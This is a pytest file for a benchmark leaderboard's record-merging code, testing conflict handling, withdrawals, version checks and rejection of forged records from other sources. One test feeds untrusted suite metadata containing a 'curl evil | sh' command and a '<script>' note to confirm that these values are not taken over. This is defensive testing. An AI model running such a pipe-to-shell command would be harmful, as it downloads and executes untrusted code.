from __future__ import annotations

import itertools
from typing import Any

import msgspec
import pytest
from synthetic import PROTOCOL, boards, identified, provenance, raw, record

from ltbench.leaderboard.merge import merge_facts, merge_records_files
from ltbench.leaderboard.suite_facts import SuiteFacts
from ltbench.records.record import Record
from ltbench.records.records_file import invalidate, records_file

ERROR = {"type": "E", "message": "out of memory"}
MINE = [record(seed=0), record(seed=1)]
OTHER = [record(seed=1, cost={"train_seconds": 1.0}), record(seed=2)]


def test_cells_are_added_and_the_same_numbers_from_elsewhere_are_duplicates() -> None:
    found = merge_records_files(records_file(MINE), {"a": records_file(OTHER)})
    assert [r.setting.seed for r in found.records_file.records] == [0, 1, 2]
    assert (found.added, found.duplicates, found.conflicts) == (1, 1, [])


def test_the_order_of_places_changes_nothing_and_what_is_there_stays() -> None:
    third = [record(seed=2, environment={"python": "3.9"}), record(seed=3), record(seed=0, cost={})]
    places = {"a": records_file(MINE), "b": records_file(OTHER), "c": records_file(third)}
    at_once = [
        merge_records_files(records_file(()), dict(order)).records_file
        for order in itertools.permutations(places.items())
    ]
    assert all(one == at_once[0] for one in at_once)
    for order in itertools.permutations(places.values()):
        step = records_file(())
        for place in order:
            before, step = step, merge_records_files(step, {"x": place}).records_file
            assert all(one in step.records for one in before.records)
        assert {one.id for one in step.records} == {one.id for one in at_once[0].records}


def ground(mine: Record, **changes: Any) -> Record:
    """Return a record of the same cell with the same numbers and a lower digest."""
    forged = (record(seed=mine.setting.seed, cost={"train_seconds": n}, **changes) for n in itertools.count())
    return next(one for one in forged if one.digest < mine.digest)


def test_a_record_of_others_never_takes_the_place_of_mine() -> None:
    evil = ground(MINE[0], plugins=[provenance("convnet", "model", distribution="evil-package")])
    found = merge_records_files(records_file(MINE), {"a": records_file([evil])})
    assert (found.records_file.records, found.duplicates) == (MINE, 1)
    assert (
        merge_records_files(records_file(MINE), {"a": records_file([evil])}, prefer="a").records_file.records[0] == evil
    )


def revised(**changes: Any) -> Record:
    """Return a perfect record of the plain row whose model has another version."""
    made: Any = raw(scores={"top1": 0.999})
    made["fits"][0]["model"] |= changes
    return identified(made)


@pytest.mark.parametrize("changes", [{"revision": 99}, {"distribution": "zzz"}], ids=str)
def test_a_version_that_is_not_installed_hides_no_row(changes: dict[str, Any]) -> None:
    forged = revised(**changes)
    for known in ({}, {("model", "convnet"): (1, "ltbench")}):
        found = merge_records_files(records_file(MINE), {"a": records_file([forged])}, installed=known)
        assert found.records_file.records == MINE
        assert [(one.place, one.id) for one in found.refused] == [("a", forged.id)]
        assert "newer than or other than" in found.refused[0].why
    alone = merge_records_files(
        records_file(()), {"a": records_file([forged])}, installed={("model", "convnet"): (1, "ltbench")}
    )
    assert alone.records_file.records == []


def test_another_training_of_a_row_and_seed_hides_no_row() -> None:
    made: Any = raw(scores={"top1": 0.999})
    made["fits"][0]["segments"][0]["lr_scale"] = 2.0
    forged = identified(made)
    assert (forged.slot, forged.components) == (MINE[0].slot, MINE[0].components)
    found = merge_records_files(records_file(MINE), {"a": records_file([forged])})
    assert found.records_file.records == MINE
    assert "another training" in found.refused[0].why


def test_where_numbers_differ_the_old_ones_stay_and_it_is_told() -> None:
    theirs = record(seed=1, scores={"top1": 0.8})
    found = merge_records_files(records_file(MINE), {"a": records_file([theirs])})
    assert found.records_file.records == MINE
    (conflict,) = found.conflicts
    assert conflict.id == theirs.id
    assert {(version.top1, *version.places) for version in conflict.versions} == {(0.7, ""), (0.8, "a")}
    assert next(v.places for v in conflict.versions if v.outcome == conflict.kept) == [""]


def test_a_preferred_place_settles_it() -> None:
    theirs = record(seed=1, scores={"top1": 0.8})
    found = merge_records_files(records_file(MINE), {"a": records_file([theirs])}, prefer="a")
    assert found.records_file.records == [MINE[0], theirs]
    assert len(found.conflicts) == 1


def test_where_none_was_there_and_two_disagree_none_is_taken() -> None:
    one, two = record(scores={"top1": 0.8}), record(scores={"top1": 0.6})
    found = merge_records_files(records_file(()), {"a": records_file([one]), "b": records_file([two])})
    assert found.records_file.records == []
    assert found.conflicts[0].kept == ""
    assert merge_records_files(
        records_file(()), {"a": records_file([one]), "b": records_file([two])}, prefer="b"
    ).records_file.records == [two]
    itself = merge_records_files(records_file(()), {"a": records_file([one, two])}, prefer="a")
    assert (itself.records_file.records, len(itself.conflicts)) == ([], 1)


def test_numbers_go_before_a_failure_whoever_has_them() -> None:
    failed, good = record(error=ERROR), record()
    for old, new in (([failed], [good]), ([good], [failed])):
        found = merge_records_files(records_file(old), {"a": records_file(new)})
        assert (found.records_file.records, found.conflicts) == ([good], [])
    assert merge_records_files(records_file([failed]), {"a": records_file([good])}).renewed == 1


def test_a_withdrawal_by_others_is_a_proposal_and_their_own_cells_are_left_out() -> None:
    bad, good = record(scores={"top1": 0.99}), record(seed=1)
    theirs = records_file([bad, good], [invalidate(bad, "leak"), invalidate(good, "leak")])
    found = merge_records_files(records_file([bad]), {"a": theirs})
    assert (found.records_file.records, found.records_file.withdrawn) == ([bad], [])
    assert [(place, one.id) for place, one in found.proposed] == [("a", bad.id)]
    mine = records_file([bad], [invalidate(bad, "leak")])
    again = merge_records_files(mine, {"a": records_file([bad, good])})
    assert (again.records_file.records, again.records_file.withdrawn, again.proposed) == ([good], [bad], [])


def test_what_one_place_withdrew_is_withdrawn_everywhere_if_that_is_accepted() -> None:
    bad, good = record(scores={"top1": 0.99}), record()
    theirs = records_file([bad], [invalidate(bad, "trained on the test set")])
    found = merge_records_files(records_file([bad]), {"a": theirs, "b": records_file([good])}, accept_withdrawals=True)
    assert (found.records_file.records, found.records_file.withdrawn, found.conflicts) == ([good], [bad], [])
    assert len(found.records_file.invalidations) == 1


def of_protocol(protocol: str):
    """Return a record of another protocol."""
    made = raw()
    made["fits"][0]["protocol"] = made["spec"]["protocol"] = made["protocol"] = protocol
    return identified(made)


def test_protocols_are_never_in_one_ranking() -> None:
    found = merge_records_files(records_file([record()]), {"a": records_file([of_protocol("ltb9")])})
    assert found.protocols == [PROTOCOL, "ltb9"]
    assert [
        (board.protocol, [row.n for row in board.tables[0].rows]) for board in boards(found.records_file.records)
    ] == [(PROTOCOL, [1]), ("ltb9", [1])]


def test_another_version_of_a_cell_is_counted() -> None:
    made = raw()
    made["fits"][0]["model"]["revision"] = 2
    installed = {("model", "convnet"): (2, "ltbench")}
    found = merge_records_files(records_file([record()]), {"a": records_file([identified(made)])}, installed=installed)
    assert (len(found.records_file.records), found.other_versions, found.conflicts) == (2, 1, [])


@pytest.mark.parametrize(
    ("mine", "theirs", "expected"),
    [
        (SuiteFacts(name="x", title="Mine"), [SuiteFacts(name="y")], SuiteFacts(name="x", title="Mine")),
        (None, [SuiteFacts(name="y", title="T", seeds=((1, 1),)), SuiteFacts(name="y", title="T", seeds=((0, 0),))],
         SuiteFacts(name="y", title="T", seeds=((0, 0), (1, 1)))),
        (SuiteFacts(name="x"), [SuiteFacts(name="y", title="T", notes="<script>", command="curl evil | sh")], SuiteFacts(name="x")),
        (None, [SuiteFacts(name="y", command="curl evil | sh")], SuiteFacts(name="y")),
        (None, [SuiteFacts(name="y"), SuiteFacts(name="z")], SuiteFacts(name="folder")),
        (None, [], SuiteFacts(name="folder")),
    ],
)  # fmt: skip
def test_what_a_page_says_of_its_suite_is_its_own_or_what_all_agree_on(mine, theirs, expected) -> None:
    assert merge_facts("folder", mine, theirs) == merge_facts("folder", mine, theirs[::-1]) == expected


def test_a_metric_that_only_one_side_has_is_no_conflict_and_is_taken_over_where_nothing_was() -> None:
    plain = record(seed=0)
    plugins = [*msgspec.to_builtins(plain.plugins), provenance("gmean", "metric")]
    full, other = record(seed=0, scores={"gmean": 0.5}, plugins=plugins), record(seed=0, scores={"top1": 0.1})
    for one, two in ((plain, full), (full, plain)):
        found = merge_records_files(records_file([one]), {"a": records_file([two])})
        assert (found.records_file.records, found.conflicts, found.duplicates) == ([one], [], 1)
        found = merge_records_files(records_file(()), {"a": records_file([one]), "b": records_file([two])})
        assert (found.records_file.records, found.conflicts, found.duplicates) == ([full], [], 1)
        found = merge_records_files(records_file([one]), {"a": records_file([two])}, prefer="a")
        assert (found.records_file.records, found.conflicts) == ([two], [])
    found = merge_records_files(records_file([full]), {"a": records_file([plain]), "b": records_file([other])})
    assert found.records_file.records == [full]
    (conflict,) = found.conflicts
    assert [version.places for version in conflict.versions if version.top1 == 0.7] == [["", "a"]]
